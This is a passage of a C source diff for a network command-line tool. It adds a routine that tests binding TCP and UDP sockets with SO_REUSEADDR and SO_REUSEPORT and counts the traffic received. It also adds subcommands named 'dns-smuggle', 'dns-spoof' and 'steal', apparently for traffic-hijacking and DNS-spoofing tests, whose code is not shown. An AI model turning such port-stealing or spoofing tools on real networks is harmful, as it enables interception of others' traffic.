+		return 2;
+	static const char *const how[] = { "reuseaddr", "reuseport", "both" };
+	struct pollfd fds[6];
+	int kinds[6], n = 0;
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int af = make_addr(argv[0], argv[1], &ss, &len);
+	for (int tcp = 0; tcp < 2; tcp++) {
+		for (int o = 0; o < 3; o++) {
+			int fd = socket(af, tcp ? SOCK_STREAM : SOCK_DGRAM, 0), one = 1;
+			if (fd < 0 ||
+			    (o != 1 && setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0) ||
+			    (o != 0 && setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)) < 0) ||
+			    bind(fd, (struct sockaddr *)&ss, len) < 0 || (tcp && listen(fd, 16) < 0)) {
+				printf("%s %s: %s\n", tcp ? "tcp" : "udp", how[o],
+				       strerrorname_np(errno) ? strerrorname_np(errno) : "?");
+				if (fd >= 0)
+					close(fd);
+				continue;
+			}
+			printf("%s %s: bound\n", tcp ? "tcp" : "udp", how[o]);
+			fds[n].fd = fd;
+			fds[n].events = POLLIN;
+			kinds[n++] = tcp;
+		}
+	}
+	unsigned long got = 0;
+	long end = now_ms() + atol(argv[2]);
+	for (long now = now_ms(); now < end; now = now_ms()) {
+		if (poll(fds, (nfds_t)n, (int)(end - now)) <= 0)
+			continue;
+		for (int i = 0; i < n; i++) {
+			if (!(fds[i].revents & POLLIN))
+				continue;
+			char b[512];
+			int c = kinds[i] ? accept(fds[i].fd, NULL, NULL) : -1;
+			if (kinds[i] ? c >= 0 : recv(fds[i].fd, b, sizeof(b), MSG_DONTWAIT) >= 0)
+				got++;
+			if (c >= 0)
+				close(c);
+		}
+	}
+	printf("received %lu\n", got);
 	return 0;
 }
 
@@ -1219,6 +1858,14 @@ int main(int argc, char **argv)
 		return cmd_sniff(argc, argv);
 	if (!strcmp(cmd, "mcast"))
 		return cmd_mcast(argc, argv);
+	if (!strcmp(cmd, "dns-smuggle"))
+		return cmd_dns_smuggle(argc, argv);
+	if (!strcmp(cmd, "dns-serve"))
+		return cmd_dns_serve(argc, argv);
+	if (!strcmp(cmd, "dns-spoof"))
+		return cmd_dns_spoof(argc, argv);
+	if (!strcmp(cmd, "steal"))
+		return cmd_steal(argc, argv);
 	if (!strcmp(cmd, "inject"))
 		return cmd_inject(argc, argv);
 	if (!strcmp(cmd, "kernel"))
